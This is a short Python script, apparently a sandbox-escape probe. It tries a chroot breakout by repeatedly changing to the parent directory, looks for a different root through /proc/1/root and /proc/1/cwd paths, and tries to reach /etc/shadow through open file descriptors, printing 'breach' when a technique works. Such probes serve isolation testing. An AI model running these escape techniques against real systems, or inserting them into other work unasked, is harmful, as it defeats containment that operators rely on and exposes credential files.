"""Climb out of the root: chroot and up, an open folder of outside, /proc/*/root and cwd."""

import os

try:
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    print("breach: chroot")
except OSError:
    pass
here = os.open("/", os.O_RDONLY)
for _ in range(64):
    os.chdir("..")
inside = os.stat(".")
for path in ("/..", "/proc/1/root/..", "/proc/self/root/../..", "/proc/1/cwd/../../../.."):
    try:
        if os.stat(path).st_ino != inside.st_ino and os.path.exists(path + "/proc/1/cmdline"):
            print("breach: another root at", path)
    except OSError:
        pass
for name in os.listdir("/proc/self/fd"):
    try:
        os.stat("shadow", dir_fd=os.open(f"/proc/self/fd/{name}/../../etc", os.O_RDONLY))
        print("breach: through a descriptor")
    except OSError:
        pass
print("done")
